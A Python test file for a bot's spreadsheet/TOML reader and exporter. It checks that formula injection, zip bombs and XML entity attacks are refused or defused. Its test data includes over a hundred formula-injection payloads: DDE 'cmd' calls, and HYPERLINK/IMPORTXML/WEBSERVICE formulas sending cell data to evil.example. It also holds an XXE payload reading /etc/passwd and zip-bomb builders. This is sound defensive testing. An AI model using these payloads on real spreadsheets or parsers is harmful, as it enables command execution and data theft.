"""Workbooks and TOML files say the same; a hostile file is refused, and nothing that is written can run."""

from __future__ import annotations

import contextlib
import csv
import stat
import struct
import zipfile
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.office.exports import ExportError, Table, safe, save, write
from bot.office.programme import parse
from bot.office.sheets import MOST_BYTES, SheetError, read

TODAY = date(2026, 3, 2)
SAMPLE = Path(__file__).parent.parent / "bot" / "playground" / "pavilion.toml"

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "   +",
    "\u3000=",
    "\xa0-",
    "\u200b@",
    "\ufeff=",
    "＝",
    "＋",
    "－",
    "＠",
)
_BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Click")', "SUM(1+1)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "WEBSERVICE(\"http://evil.example\")",
)  # fmt: skip
PAYLOADS = [
    *(start + body for start in _STARTS for body in _BODIES),
    "name;=1+1", "name\n=1+1", "name\t=1+1", "name; =cmd|' /C calc'!A0", '";=1+1;"', "a\r\n@SUM(1)", "=", "+", "-", "@",
]  # fmt: skip


def workbook(path: Path, **sheets: list[list[Any]]) -> Path:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


TEAMS = [["id", "name.ko", "name.en", "chat"], ["desk", "데스크", "Desk", -1001000000002]]
FAIR = [["zone"], ["Asia/Seoul"]]
HOURS = ["team", "days", "from", "to", "minutes", "capacity"]


def test_the_sample_is_the_same_as_a_workbook(tmp_path: Path) -> None:
    sample = parse(read(SAMPLE), TODAY)
    save(tmp_path / "pavilion.xlsx", sample.plain())
    save(tmp_path / "pavilion.toml", sample.plain())

    from_workbook, from_toml = read(tmp_path / "pavilion.xlsx"), read(tmp_path / "pavilion.toml")

    assert parse(from_workbook, TODAY) == parse(from_toml, TODAY) == sample


def test_real_cells_and_texts_are_both_read(tmp_path: Path) -> None:
    rows = [
        HOURS,
        ["desk", datetime(2026, 9, 16), time(9), time(10), 30, 1],  # noqa: DTZ001
        [],
        ["desk", date(2026, 9, 17), timedelta(hours=23), timedelta(hours=24), 30.0, "1"],
        [None, "  ", "", None, None, None],
        ["desk", "2026-09-18", "09:00", "10:00", "30", None],
    ]

    path = workbook(tmp_path / "a.xlsx", Fair=FAIR, TEAMS=TEAMS, hours=rows, Sheet1=[])

    assert [f"{slot.starts_at:%d %H:%M}" for slot in parse(read(path), TODAY).slots] == [
        "16 00:00", "16 00:30", "17 14:00", "17 14:30", "18 00:00", "18 00:30",
    ]  # fmt: skip


def test_rows_count_as_the_spreadsheet_shows_them(tmp_path: Path) -> None:
    rows = [[], HOURS, [], ["desk", "2026-09-16", "09:00", "10:00", 7]]
    path = workbook(tmp_path / "a.xlsx", fair=FAIR, teams=TEAMS, hours=rows)

    with pytest.raises(ValueError, match="^hours, row 4: minutes: 7 is no multiple of 5$"):
        parse(read(path), TODAY)


@pytest.mark.parametrize(
    ("rows", "told"),
    [
        ([["id", "ID"], ["a", "b"]], "teams, row 1: two columns have the same header"),
        ([["id"], ["a", "b"]], "teams, row 2: a cell in column 2 has no header"),
        ([["id", "name", "name.ko"], ["a", "b", "c"]], "teams, row 2: there is both a column name and"),
        ([["id", "name.ko", "name"], ["a", "b", "c"]], "teams, row 2: there is both a column name and"),
        ([["id", "chat"], ["a", "=1+1"]], "teams, row 2, column B: the formula has no value yet"),
        ([["id", "chat"], ["a", "#REF!"]], "teams, row 2, column B: #REF! is an error"),
        ([["id"] * 101], "at most 25,000 rows and 100 columns"),
    ],
)
def test_a_table_that_cannot_be_understood_is_told_with_its_place(
    tmp_path: Path, rows: list[list[Any]], told: str
) -> None:
    path = workbook(tmp_path / "a.xlsx", teams=rows)

    with pytest.raises(SheetError) as caught:
        read(path)

    assert told in str(caught.value)


def test_an_unknown_sheet_is_named_when_it_holds_something(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", fair=FAIR, teams=TEAMS, hour=[["team"], ["desk"]], notes=[])

    with pytest.raises(ValueError, match="unknown table hour; known are"):
        parse(read(path), TODAY)


def test_the_fair_has_one_row(tmp_path: Path) -> None:
    with pytest.raises(SheetError, match="more than one row"):
        read(workbook(tmp_path / "a.xlsx", fair=[*FAIR, ["Europe/Berlin"]]))


def packed(path: Path, **parts: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(f"xl/{name}.xml", content)
    return path


def lying_zip(path: Path) -> Path:
    """A zip that says its part is small."""
    packed(path, workbook=b" " * (100 * 2**20))
    content = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.index(signature) + offset
        content[at : at + 4] = struct.pack("<I", 1000)
    path.write_bytes(content)
    return path


def test_what_would_unpack_to_too_much_is_not_opened(tmp_path: Path) -> None:
    bomb = packed(tmp_path / "bomb.xlsx", **{f"p{n}": b" " * (13 * 2**20) for n in range(5)})

    assert bomb.stat().st_size < 100_000
    with pytest.raises(SheetError, match="unpacks to more than 64 MB"):
        read(bomb)
    with pytest.raises(SheetError, match="is damaged"):
        read(lying_zip(tmp_path / "lying.xlsx"))
    with pytest.raises(SheetError, match="unpacks to more"):
        read(packed(tmp_path / "many.xlsx", **{f"p{n}": b"" for n in range(1001)}))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_workbook_that_defines_entities_is_not_parsed(tmp_path: Path, encoding: str) -> None:
    evil = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'.encode(encoding)

    with pytest.raises(SheetError, match="document type"):
        read(packed(tmp_path / "a.xlsx", workbook=evil))


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.xlsx", b"", "no .xlsx workbook"),
        ("a.xlsx", b"PK\x03\x04 not really", "no .xlsx workbook"),
        ("a.xlsx", b"\xd0\xcf\x11\xe0" * 100, "no .xlsx workbook"),
        ("a.xls", b"\xd0\xcf\x11\xe0", "only .toml and .xlsx are read"),
        ("a.csv", b"id,name", "only .toml and .xlsx are read"),
        ("a.toml", b"[team", "is not TOML in UTF-8"),
        ("a.toml", b"a = '\xff'", "is not TOML in UTF-8"),
        ("a.toml", b"a = " + b"[" * 100_000, "is not TOML in UTF-8"),
        ("a.toml", b"#" * (MOST_BYTES + 1), "larger than 5 MB"),
    ],
)
def test_what_is_no_sheet_is_refused(tmp_path: Path, name: str, content: bytes, told: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)

    with pytest.raises(SheetError) as caught:
        read(path)

    assert told in str(caught.value)


def test_a_file_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(SheetError, match="cannot be read: No such file"):
        read(tmp_path / "a.toml")


def test_a_zip_without_a_workbook_is_refused(tmp_path: Path) -> None:
    with pytest.raises(SheetError, match="cannot be read as a workbook"):
        read(packed(tmp_path / "a.xlsx", other=b"<a/>"))


@settings(deadline=None)
@given(st.data())
def test_a_damaged_workbook_is_read_or_refused(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    path = tmp_path_factory.mktemp("damaged") / "a.xlsx"
    workbook(path, fair=FAIR, teams=TEAMS)
    with zipfile.ZipFile(path) as whole:
        parts = {name: bytearray(whole.read(name)) for name in whole.namelist()}
    name = data.draw(st.sampled_from(sorted(parts)))
    at = data.draw(st.integers(0, len(parts[name]) - 1))
    parts[name][at : at + data.draw(st.integers(0, 30))] = data.draw(st.binary(max_size=20))
    with zipfile.ZipFile(path, "w") as broken:
        for part, content in parts.items():
            broken.writestr(part, bytes(content))

    with contextlib.suppress(SheetError):
        assert isinstance(read(path), dict)


def test_toml_may_begin_with_a_byte_order_mark(tmp_path: Path) -> None:
    (tmp_path / "a.toml").write_bytes(b"\xef\xbb\xbf[fair]\nzone = 'UTC'")

    assert read(tmp_path / "a.toml") == {"fair": {"zone": "UTC"}}


def test_there_are_more_than_a_hundred_payloads() -> None:
    assert len(PAYLOADS) >= 100


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_payload_is_a_formula_in_csv_whatever_separates_there(tmp_path: Path, delimiter: str) -> None:
    path = tmp_path / "a.csv"
    write(path, [Table("a", ("name", "topic"), [(payload, "x") for payload in PAYLOADS])])

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        fields = [field for row in csv.reader(file, delimiter=delimiter) for field in row]
    assert len(fields) > 100
    visible = [field.lstrip('\u200b\ufeff \u3000\xa0\t\r\n"') for field in fields]
    assert [field for field in visible if field[:1] and field[0] in "=+-@＝＋－＠"] == []


def test_no_payload_is_a_formula_in_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write(path, [Table("a", ("name", "=topic"), [(payload, "http://evil.example") for payload in PAYLOADS])])

    book = openpyxl.load_workbook(path)

    rows = list(book["a"].iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    assert {cell.data_type for row in book["a"].iter_rows() for cell in row} == {"s"}
    assert {row[1].hyperlink for row in rows} == {None}
    assert {row[0].quotePrefix for row in rows} == {True}
    assert [row[0].value for row in rows] == [payload.replace("\r\n", "\n").replace("\r", "\n") for payload in PAYLOADS]
    with zipfile.ZipFile(path) as packed_book:
        assert not any(b"<f>" in packed_book.read(name) for name in packed_book.namelist())


@given(st.text())
def test_any_text_is_harmless_at_the_beginning_of_a_cell(text: str) -> None:
    made = safe(text)

    assert made.lstrip()[:1] not in tuple("=+-@＝＋－＠")
    assert [c for c in made if c.isprintable() and c != "'"] == [c for c in text if c.isprintable() and c != "'"]


@pytest.mark.parametrize("text", ["투엔", "Müller & Söhne", "a-b", "3 + 4", "x@y.example", "Wie geht's?", ""])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_times_are_real_dates_in_a_workbook_and_plain_in_csv(tmp_path: Path) -> None:
    local = datetime(2026, 9, 16, 15, 0)  # noqa: DTZ001
    moment = datetime(2026, 9, 16, 8, 0, 12, tzinfo=UTC)
    table = Table(
        "a",
        ("venue", "utc", "day", "time", "n", "none", "yes"),
        [(local, moment, date(2026, 9, 16), time(9), 7, None, True)],
    )

    write(tmp_path / "a.xlsx", [table])
    write(tmp_path / "a.csv", [table])

    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["a"]
    values = [cell.value for cell in sheet[2]]
    assert values == [local, moment.replace(tzinfo=None, second=0), local.replace(hour=0), time(9), 7, None, True]
    assert [cell.is_date for cell in sheet[2]] == [True, True, True, True, False, False, False]
    assert (sheet["A1"].font.bold, sheet.freeze_panes) == (True, "A2")
    assert sheet.column_dimensions["A"].width > 16
    assert (tmp_path / "a.csv").read_text("utf-8-sig").splitlines()[
        1
    ] == "2026-09-16 15:00,2026-09-16 08:00,2026-09-16,09:00,7,,True"


def test_an_export_is_readable_by_its_owner_alone_and_leaves_nothing_else(tmp_path: Path) -> None:
    write(tmp_path / "a.csv", [Table("a", ("x",), [("y",)])])

    assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o600
    assert [path.name for path in tmp_path.iterdir()] == ["a.csv"]


def test_what_cannot_be_written_is_told(tmp_path: Path) -> None:
    table = Table("a", ("x",), [])

    for path, tables in ((tmp_path / "a.pdf", [table]), (tmp_path / "a.csv", [table, table])):
        with pytest.raises(ExportError, match="choose a name that ends in .xlsx"):
            write(path, tables)
    with pytest.raises(ExportError, match="cannot be written: No such file"):
        write(tmp_path / "missing" / "a.csv", [table])
    with pytest.raises(ExportError, match="ends in .xlsx or .toml"):
        save(tmp_path / "a.csv", {})
    assert list(tmp_path.iterdir()) == []


def test_an_endless_text_and_a_control_character_fit_a_cell(tmp_path: Path) -> None:
    write(tmp_path / "a.xlsx", [Table("a", ("x",), [("가" * 50_000,), ("a\x00\x0b\x1b\ud800b",)])])

    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["a"]

    assert len(sheet["A2"].value) == 32_000
    assert sheet["A3"].value.replace("\n", "") in ("ab", "a_x000B_b", "a\x0bb")
